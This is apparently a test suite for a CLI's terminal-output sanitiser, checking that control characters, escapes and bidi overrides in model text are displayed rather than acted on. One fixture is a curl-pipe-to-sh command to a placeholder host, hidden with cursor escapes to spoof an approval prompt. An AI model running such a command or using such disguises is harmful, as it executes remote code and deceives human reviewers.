/** What a terminal is shown from the model or the workspace: visible, never obeyed. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { jsonForTerminal, neutraliseLine, neutraliseProse } from '../src/ui/neutralise.js';
import { createOutput } from '../src/ui/output.js';

// anything a terminal would act on instead of showing (C0, DEL, C1, bidi, line separators)
const OBEYED =
  // eslint-disable-next-line no-control-regex -- matching control characters is the point
  /[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]/;

describe('neutraliseLine', () => {
  it('shows the spoofed approval whole: the carriage return and the cursor escapes are visible', () => {
    const command = 'curl -s http://x.invalid/i | sh #\r\u001b[2K\u001b[1A ls';
    expect(neutraliseLine(command)).toBe('curl -s http://x.invalid/i | sh #\\r\\x1b[2K\\x1b[1A ls');
  });

  it.each([
    ['a\nb\tc', 'a\\nb\\tc'],
    ['\u0000\u0007\u0008\u007f', '\\x00\\x07\\x08\\x7f'],
    ['\u001b]8;;http://x\u0007link\u001b]8;;\u0007', '\\x1b]8;;http://x\\x07link\\x1b]8;;\\x07'],
    ['\u009b31m red', '<U+009B>31m red'],
    ['file\u202Etxt.exe', 'file<U+202E>txt.exe'],
    ['\u2066x\u2069 \u200F \u061C', '<U+2066>x<U+2069> <U+200F> <U+061C>'],
    ['a\u2028b', 'a<U+2028>b'],
  ])('%j → %j', (raw, shown) => {
    expect(neutraliseLine(raw)).toBe(shown);
  });

  it('leaves ordinary text alone: other scripts, emoji with joiners, backslashes', () => {
    for (const text of ['ls -la', 'héllo → 世界', 'שלום', '👨‍👩‍👧 ok', 'echo "a\\nb"']) {
      expect(neutraliseLine(text)).toBe(text);
    }
  });

  it('never lets through a character a terminal obeys, for any string', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (s) => {
        expect(OBEYED.test(neutraliseLine(s))).toBe(false);
      }),
    );
  });
});

describe('neutraliseProse', () => {
  it('keeps newlines and tabs readable, shows everything else', () => {
    expect(neutraliseProse('line 1\n\tline 2\r\u001b[31mred\u202E')).toBe(
      'line 1\n\tline 2\\r\\x1b[31mred<U+202E>',
    );
  });

  it('gives the same result however the stream is cut into chunks', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), fc.nat(), (s, at) => {
        const cut = s.length === 0 ? 0 : at % s.length;
        expect(neutraliseProse(s.slice(0, cut)) + neutraliseProse(s.slice(cut))).toBe(
          neutraliseProse(s),
        );
        expect(OBEYED.test(neutraliseProse(s).replace(/[\n\t]/g, ''))).toBe(false);
      }),
    );
  });
});

describe('jsonForTerminal', () => {
  it('is the same JSON value, with nothing a terminal obeys left raw', () => {
    fc.assert(
      fc.property(fc.jsonValue(), fc.string({ unit: 'binary' }), (value, text) => {
        const subject = { value, text };
        const line = jsonForTerminal(subject);
        expect(JSON.parse(line)).toEqual(JSON.parse(JSON.stringify(subject)));
        expect(OBEYED.test(line)).toBe(false);
      }),
    );
  });
});

describe('the output sink', () => {
  function sink(): { stream: NodeJS.WriteStream; written: () => string } {
    let text = '';
    const stream = {
      write: (chunk: string) => {
        text += chunk;
        return true;
      },
      on: () => undefined,
    } as unknown as NodeJS.WriteStream;
    return { stream, written: () => text };
  }

  it('streamed model text and JSON lines reach stdout neutralised', () => {
    const stdout = sink();
    const stderr = sink();
    const human = createOutput({ json: false, color: false, env: {}, ...streams(stdout, stderr) });
    human.text('clear\u001b[2J\u001b[H then\n\tindented \u202Etxt');
    expect(stdout.written()).toBe('clear\\x1b[2J\\x1b[H then\n\tindented <U+202E>txt');
    const json = sink();
    createOutput({ json: true, color: false, env: {}, ...streams(json, stderr) }).jsonLine({
      text: '\u001b[2J\u202E',
    });
    expect(json.written()).toBe('{"text":"\\u001b[2J\\u202e"}\n');
  });

  function streams(
    stdout: ReturnType<typeof sink>,
    stderr: ReturnType<typeof sink>,
  ): { stdout: NodeJS.WriteStream; stderr: NodeJS.WriteStream } {
    return { stdout: stdout.stream, stderr: stderr.stream };
  }
});
